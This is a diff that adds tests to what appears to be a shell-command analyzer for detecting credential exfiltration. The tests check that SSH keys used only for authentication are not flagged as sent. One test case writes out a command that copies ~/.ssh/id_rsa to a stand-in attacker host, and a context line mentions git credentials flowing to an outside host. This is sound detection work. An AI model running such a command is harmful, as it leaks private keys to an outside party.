@@ -83,3 +83,19 @@ describe("child_process commands", () => {
     expect(flowSummary(facts)).toEqual(["git-credentials -> http https://g.example.invalid @index.js:2 (import)"]);
   });
 });
+
+describe("keys used to authenticate a command", () => {
+  it.each([
+    ["scp -i", "scp -i ~/.ssh/id_rsa -r dist deploy@www.example.org:/srv"],
+    ["ssh -o IdentityFile", "scp -o IdentityFile=~/.ssh/id_ed25519 dist.tgz deploy@www.example.org:/srv"],
+    ["rsync -e 'ssh -i key'", "rsync -az -e 'ssh -i ~/.ssh/id_rsa' public/ deploy@www.example.org:/srv"],
+    ["curl --key (TLS client key)", "curl --key ~/.ssh/id_rsa https://www.example.org/"],
+  ])("%s is not a credential sent", (_name, command) => {
+    expect(analyzeShell(command, signatures()).sources).toEqual([]);
+  });
+
+  it("the same key given as a file to copy is still read and sent", () => {
+    const analysis = analyzeShell("scp -i ~/.ssh/id_rsa ~/.ssh/id_rsa x@evil.example.invalid:/tmp", signatures());
+    expect(analysis.sources.map((s) => s.detail)).toEqual(["~/.ssh/id_rsa"]);
+  });
+});
